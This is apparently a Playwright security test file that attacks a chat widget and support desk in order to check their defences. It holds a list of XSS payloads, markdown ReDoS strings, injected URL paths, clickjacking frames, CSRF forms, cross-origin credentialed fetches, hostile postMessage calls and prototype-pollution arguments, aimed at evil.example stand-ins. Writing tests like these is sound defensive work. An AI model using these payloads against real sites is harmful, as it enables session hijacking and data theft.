import type { Browser, Frame, Page } from 'playwright-core';
import { Agent, Visitor } from '../../browser/people.ts';
import { attack, each, type Group } from '../attack.ts';
import { CANARY, type Stage } from '../stage.ts';
import { evilSite } from '../tools/evil-site.ts';

/** Texts that would do something if a message were anything but text. */
const HOSTILE = [
  `<img src=x onerror="window.pwned=1"> ${CANARY}`,
  '<script>window.pwned=1</script><svg onload=window.pwned=1><iframe srcdoc="<script>parent.pwned=1</script>">',
  '[click](javascript:window.pwned=1) javascript:window.pwned=1 JaVaScRiPt://%0awindow.pwned=1 http://javascript:window.pwned=1',
  'data:text/html,<script>window.pwned=1</script> vbscript:x https://wellchina.com@evil.test/ http://evil.test/"onmouseover="window.pwned=1',
  '{{constructor.constructor("window.pwned=1")()}} &lt;img src=x onerror=window.pwned=1&gt;',
  '\u202etxet desrever\u202c \u2066isolated\u2069',
];

/** Texts that take long where something reads them as markup. */
const BOMBS = [
  `${'*_~`['.repeat(790)} bomb one`,
  `http://a${').'.repeat(1_980)} bomb two`,
  `http://a${'.'.repeat(1_970)}${')'.repeat(1_970)} bomb two and a half`,
  `${'>'.repeat(1_500)}${'['.repeat(1_200)}${'('.repeat(1_200)} bomb three`,
];

/** What a page holds that no message may make: code that ran, elements, addresses with a scheme of their own. */
async function harmIn(frame: Page | Frame): Promise<string[]> {
  return frame.evaluate(() => {
    const found: string[] = [];
    if ('pwned' in window) found.push('code ran');
    const made = document.querySelectorAll(
      '.wc-text img, .wc-text script, .wc-text svg, .wc-text iframe, .wc-text [onmouseover], .wc-text [style]',
    );
    if (made.length > 0) found.push(`${made.length} elements made`);
    for (const { href, textContent } of document.querySelectorAll('a')) {
      // The site's own contact page may name an address.
      if (!/^(?:https?|mailto|tel):/u.test(href)) found.push(`a link to ${href}`);
      if (/^https?:.*@/u.test(href)) found.push(`${textContent} leads to ${href}`);
    }
    return found;
  });
}

const panelOf = (page: Page) => page.frames().find((frame) => new URL(frame.url()).pathname === '/widget');

/** Where a page's one frame has come to, once it is anywhere. */
async function frameIn(page: Page): Promise<string> {
  const deadline = Date.now() + 8_000;
  const url = () => page.frames()[1]?.url() ?? '';
  while (['', 'about:blank'].includes(url()) && Date.now() < deadline) await page.waitForTimeout(50);
  return url();
}

async function withPage(stage: Stage, work: (page: Page) => Promise<string>): Promise<string> {
  const context = await (await stage.browser()).newContext();
  try {
    return await work(await context.newPage());
  } finally {
    await context.close();
  }
}

export const pages: Group = {
  title: 'In the browser',
  attacks: [
    attack(
      '<img onerror>, <script>, javascript: and data: links, templates, markdown bombs as messages',
      'shown as text in widget and desk; nothing ran, no link but http(s); every text in time',
      async (stage) => {
        const visitor = await Visitor.arrive(await stage.browser(), stage.worker.url);
        const { email, password } = await stage.account({ agent: {} });
        const support = await Agent.signIn(await stage.browser(), stage.worker.url, email, password);
        try {
          await visitor.openChat();
          const began = Date.now();
          for (const text of [...HOSTILE, ...BOMBS]) {
            await visitor.write(text);
            await visitor.panel.locator('.wc-row').last().waitFor();
          }
          await visitor.sees('bomb three');
          await support.page.getByRole('link').filter({ hasText: 'bomb three' }).first().click();
          await support.sees('bomb three');
          await support.press('Accept');
          await support.write(HOSTILE[0] ?? '');
          await visitor.panel
            .getByText(HOSTILE[0] ?? '')
            .nth(1)
            .waitFor();
          const seconds = (Date.now() - began) / 1000;
          const panel = panelOf(visitor.page);
          if (!panel) return 'no panel';
          const harm = [
            ...(await harmIn(panel)),
            ...(await harmIn(visitor.page)),
            ...(await harmIn(support.page)),
          ];
          for (const [where, log] of [
            ['widget', visitor.log],
            ['desk', support.log],
          ] as const) {
            const shown = await log.textContent();
            for (const text of HOSTILE) if (!shown?.includes(text)) harm.push(`${where} lacks ${text}`);
          }
          if (seconds > 15) harm.push(`it took ${seconds} s`);
          return harm.length === 0
            ? 'shown as text in widget and desk; nothing ran, no link but http(s); every text in time'
            : harm.join(' | ');
        } finally {
          await visitor.leave();
          await support.leave();
        }
      },
    ),
    attack(
      'the same as subject, page, procedure, saved items and name: the desk’s lists and side panel',
      'nothing ran',
      async (stage) => {
        const { email, password } = await stage.account({ agent: {} });
        const guest = await stage.guest();
        const nasty = '<img src=x onerror="window.pwned=1">';
        const token = await stage.forge.real(
          stage.forge.claims(guest.id, { user_metadata: { full_name: nasty } }),
        );
        const names = [nasty, '"><script>window.pwned=1</script>', 'javascript:window.pwned=1'];
        const context = {
          subject: nasty,
          page: names[2],
          procedure: nasty,
          hospital: nasty,
          hospitals: names,
          city: nasty,
          region: nasty,
          locale: '<svg onload=window.pwned=1>',
          saved: { plans: names, procedures: names, hospitals: names, cities: names },
        };
        const reply = await stage.http('POST', '/api/conversations', {
          token,
          body: { context, firstMessage: { id: crypto.randomUUID(), text: nasty } },
        });
        const { id } = JSON.parse(reply.text).conversation;
        const support = await Agent.signIn(await stage.browser(), stage.worker.url, email, password);
        try {
          await support.page.goto(`${stage.worker.url}/agent/conversations/${id}`);
          await support.sees(nasty);
          await support.page.reload();
          await support.sees(nasty);
          const harm = await harmIn(support.page);
          return harm.length === 0 ? 'nothing ran' : harm.join(' | ');
        } finally {
          await support.leave();
        }
      },
    ),
    attack('code in the site’s own addresses: query, path, fragment', 'nothing ran', (stage) =>
      withPage(stage, async (page) =>
        each(
          [
            '/?q=</script><script>window.pwned=1</script>',
            '/procedures/%3Cimg%20src=x%20onerror=window.pwned=1%3E',
            '/pricing?plan=%22%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E',
            '/compare?items=%3Csvg%20onload=window.pwned=1%3E&hospitals=%3C/script%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E',
            '/contact#<img src=x onerror=window.pwned=1>',
            '/nowhere/<script>window.pwned=1</script>',
            '/agent/login?next="><script>window.pwned=1</script>',
            '/widget?origin=javascript:window.pwned=1',
            '/widget?origin=https://x"><script>window.pwned=1</script>',
          ],
          async (path) => {
            await page.goto(stage.worker.url + path);
            const harm = await harmIn(page);
            return harm.length === 0 ? 'nothing ran' : harm.join();
          },
        ),
      ),
    ),
    attack('the desk in a frame on another site', 'refused by the browser', async (stage) => {
      const evil = await evilSite();
      try {
        return await withPage(stage, async (page) =>
          each(['/agent', '/agent/login', '/', '/agent/conversations/x'], async (path) => {
            evil.serve(`<iframe src="${stage.worker.url}${path}"></iframe>`);
            await page.goto(evil.url);
            await page.waitForFunction(() => document.readyState === 'complete');
            const framed = await frameIn(page);
            return framed.startsWith('chrome-error:') ? 'refused by the browser' : `framed: ${framed}`;
          }),
        );
      } finally {
        await evil.close();
      }
    }),
    attack('the chat in a frame on a website that is not listed', 'refused by the browser', async (stage) => {
      const evil = await evilSite();
      // Not plain localhost, which a Worker on this machine lets in for development.
      const url = evil.url.replace('localhost', 'evil.localhost');
      try {
        return await withPage(stage, async (page) =>
          each(['/widget', `/widget?origin=${encodeURIComponent(stage.worker.url)}`], async (path) => {
            evil.serve(`<iframe src="${stage.worker.url}${path}"></iframe>`);
            await page.goto(url);
            const framed = await frameIn(page);
            return framed.startsWith('chrome-error:') ? 'refused by the browser' : `framed: ${framed}`;
          }),
        );
      } finally {
        await evil.close();
      }
    }),
    attack(
      'code in a page where somebody could write: scripts without a nonce, handlers, styles, a base, a form elsewhere',
      'the policy refuses every one',
      (stage) =>
        withPage(stage, async (page) =>
          each(['/', '/agent/login', '/widget'], async (path) => {
            await page.goto(stage.worker.url + path);
            return page.evaluate(async () => {
              const refused: string[] = [];
              document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
                refused.push(effectiveDirective),
              );
              const add = (html: string) => {
                const holder = document.createElement('div');
                holder.innerHTML = html;
                for (const element of [...holder.children]) document.body.appendChild(element);
              };
              add(
                '<img src="data:," onerror="window.pwned=1"><p style="color:red">x</p><style>p{color:red}</style>',
              );
              add('<base href="https://evil.example/"><object data="https://evil.example/x"></object>');
              add('<iframe src="https://evil.example/"></iframe>');
              for (const src of ['', 'https://evil.example/x.js', 'data:text/javascript,window.pwned=1']) {
                const script = document.createElement('script');
                if (src) script.src = src;
                else script.textContent = 'window.pwned=1';
                document.body.appendChild(script);
              }
              const form = document.createElement('form');
              form.action = 'https://evil.example/';
              form.method = 'post';
              document.body.appendChild(form);
              form.submit();
              await fetch('https://evil.example/').catch(() => {});
              const expected = ['base-uri', 'connect-src', 'form-action', 'frame-src', 'object-src'].concat([
                'script-src-attr',
                'script-src-elem',
                'style-src-attr',
                'style-src-elem',
              ]);
              const notRefused = () => expected.filter((directive) => !refused.includes(directive));
              // Each is reported in its own time.
              const deadline = Date.now() + 8_000;
              while (notRefused().length > 0 && Date.now() < deadline)
                await new Promise((resolve) => setTimeout(resolve, 50));
              const missing = notRefused();
              if ('pwned' in window) missing.push('code ran');
              return missing.length === 0 ? 'the policy refuses every one' : `not refused: ${missing.join()}`;
            });
          }),
        ),
    ),
    attack(
      'CSRF in a real browser: another site posts the logout and a login',
      'still signed in',
      async (stage) => {
        const evil = await evilSite();
        const { email, password } = await stage.account({ agent: {} });
        const support = await Agent.signIn(await stage.browser(), stage.worker.url, email, password);
        try {
          for (const path of ['/agent/logout', '/agent/login', '/agent/refresh']) {
            evil.serve(
              `<form method="post" action="${stage.worker.url}${path}"><input name="email" value="x@y.test"><input name="password" value="z"></form>`,
            );
            await support.page.goto(evil.url);
            await Promise.all([
              support.page.waitForURL(`${stage.worker.url}/**`),
              support.page.evaluate(() => document.forms[0]?.submit()),
            ]);
          }
          const answer = await support.page.goto(`${stage.worker.url}/agent`);
          return new URL(support.page.url()).pathname === '/agent' && answer?.status() === 200
            ? 'still signed in'
            : support.page.url();
        } finally {
          await support.leave();
          await evil.close();
        }
      },
    ),
    attack(
      'a socket and a fetch from another site’s page, with an agent’s cookies in the browser',
      'no socket, nothing read',
      async (stage) => {
        const evil = await evilSite();
        const { email, password } = await stage.account({ agent: {} });
        const support = await Agent.signIn(await stage.browser(), stage.worker.url, email, password);
        try {
          evil.serve('<p>evil</p>');
          await support.page.goto(evil.url);
          return await support.page.evaluate(
            async ([url, wsUrl]) => {
              const socket = new WebSocket(`${wsUrl}/lobby`, ['wellchina.v1']);
              const opened = await new Promise((resolve) => {
                socket.onopen = () => resolve('a socket');
                socket.onclose = () => resolve('no socket');
              });
              const read = await fetch(`${url}/api/conversations`, { credentials: 'include' }).then(
                (answer) => answer.text(),
                () => null,
              );
              const made = await fetch(`${url}/api/session`, {
                method: 'POST',
                credentials: 'include',
                body: '{}',
                headers: { 'Content-Type': 'text/plain' },
              }).then(
                (answer) => answer.text(),
                () => null,
              );
              return `${opened}, ${read === null && made === null ? 'nothing' : 'something'} read`;
            },
            [stage.worker.url, stage.worker.wsUrl] as const,
          );
        } finally {
          await support.leave();
          await evil.close();
        }
      },
    ),
    attack(
      'hostile postMessage to the page’s loader, from a frame and from an opener',
      'nothing heard',
      async (stage) => {
        const evil = await evilSite();
        const bodies = [
          { t: 'ready' },
          { t: 'unread', count: 99 },
          { t: 'message', text: 'x', senderName: 'y', at: 'z' },
          { t: 'known', known: true, live: true },
          { t: 'token', id: 1 },
          { t: 'close' },
          { t: 'error', code: 'x' },
        ];
        const shout = `const bodies=${JSON.stringify(bodies)};const say=(to)=>{for(const body of bodies)to.postMessage({channel:'wellchina-chat',body},'*')};`;
        evil.serve(`<script>${shout}if(parent!==window)say(parent);onmessage=()=>say(parent)</script>`);
        // A host's page has no policy of ours that would keep the frame away.
        const browser = await stage.browser();
        const lax = { newContext: () => browser.newContext({ bypassCSP: true }) } as unknown as Browser;
        const visitor = await Visitor.arrive(lax, stage.worker.url);
        try {
          const { page } = visitor;
          await visitor.openChat();
          const heard = await page.evaluate(async (url) => {
            const events: string[] = [];
            const chat = (window as unknown as { WellChinaChat: (...call: unknown[]) => void }).WellChinaChat;
            let asked = 0;
            chat('setUser', {
              getAccessToken: () => {
                asked += 1;
                return 'host-token';
              },
            });
            chat('setUser', null);
            asked = 0;
            for (const name of ['close', 'message', 'unread', 'error'])
              chat('on', name, () => events.push(name));
            let said = 0;
            addEventListener('message', ({ origin }) => {
              if (origin === new URL(url).origin) said += 1;
            });
            const frame = document.createElement('iframe');
            frame.src = url;
            document.body.appendChild(frame);
            await new Promise((resolve) => {
              frame.onload = resolve;
            });
            frame.contentWindow?.postMessage('again', '*');
            await new Promise((resolve) => setTimeout(resolve, 200));
            return events.concat(
              asked > 0 ? ['token asked for'] : [],
              said === 0 ? ['nothing was said'] : [],
            );
          }, evil.url);
          // A browser of its own: the first one remembers that the chat is open.
          const elsewhere = await (await stage.browser()).newContext();
          const opener = await elsewhere.newPage();
          await opener.goto(evil.url);
          const popup = opener.waitForEvent('popup');
          await opener.evaluate((url) => {
            (window as unknown as { victim: Window | null }).victim = window.open(url);
          }, stage.worker.url);
          const victim = await popup;
          await victim.getByRole('button', { name: 'Open chat' }).waitFor();
          await opener.evaluate(`${shout}say(victim)`);
          await victim.waitForTimeout(200);
          const unmoved = await victim.getByRole('button', { name: 'Open chat', exact: true }).isVisible();
          await elsewhere.close();
          const still = await page.frameLocator('iframe[title*="Chat"]').getByRole('textbox').isVisible();
          return heard.length === 0 && still && unmoved
            ? 'nothing heard'
            : `${heard.join()} ${still ? '' : 'closed'} ${unmoved ? '' : 'changed'}`;
        } finally {
          await visitor.leave();
          await evil.close();
        }
      },
    ),
    attack(
      'hostile postMessage to the panel, embedded under a false origin',
      'nothing said to it, nothing heard of it',
      async (stage) => {
        const evil = await evilSite();
        const panel = `${stage.worker.url}/widget?origin=${encodeURIComponent(stage.worker.url)}`;
        evil.serve(`<iframe src="${panel}"></iframe><script>window.heard=[];onmessage=({data})=>heard.push(JSON.stringify(data));
        window.shout=()=>{for(const body of [{t:'init',open:true,focus:true,known:true,context:{page:'stolen'},locale:'zh',user:true},{t:'open',focus:true},{t:'context',context:{page:'stolen'}},{t:'user',user:true},{t:'token',id:1,token:'x'},{t:'locale',locale:'zh'}])frames[0].postMessage({channel:'wellchina-chat',body},'*')}</script>`);
        try {
          return await withPage(stage, async (page) => {
            const asked: string[] = [];
            page.on('request', (request) => asked.push(new URL(request.url()).pathname));
            await page.goto(evil.url);
            await page.waitForLoadState('networkidle');
            const before = asked.length;
            await page.evaluate('shout()');
            await page.waitForTimeout(400);
            const heard = (await page.evaluate('heard')) as string[];
            const calls = asked.slice(before).filter((path) => path.startsWith('/api'));
            const chinese = (await panelOf(page)?.evaluate(() => document.documentElement.lang)) ?? '';
            return `${heard.length === 0 ? 'nothing' : heard.join()} said to it, ${calls.length === 0 && chinese !== 'zh' ? 'nothing' : `${calls} ${chinese}`} heard of it`;
          });
        } finally {
          await evil.close();
        }
      },
    ),
    attack('WellChinaChat calls with odd arguments', 'the page lives', async (stage) => {
      const visitor = await Visitor.arrive(await stage.browser(), stage.worker.url);
      try {
        await visitor.openChat();
        await visitor.page.evaluate(() => {
          const chat = (window as unknown as { WellChinaChat: (...call: unknown[]) => void }).WellChinaChat;
          for (const call of [
            ['__proto__'],
            ['constructor', {}],
            ['on', '__proto__', () => {}],
            ['on', 'constructor', () => {}],
            ['setLocale', '__proto__'],
            ['setLocale', '../../x'],
            ['setContext', JSON.parse('{"__proto__":{"polluted":1}}')],
            ['setContext', null],
            ['off', 'x'],
          ])
            chat(...call);
        });
        await visitor.write('still here');
        await visitor.sees('still here');
        const polluted = await visitor.page.evaluate(() => 'polluted' in {} || 'pwned' in window);
        return polluted ? 'polluted' : 'the page lives';
      } finally {
        await visitor.leave();
      }
    }),
  ],
};
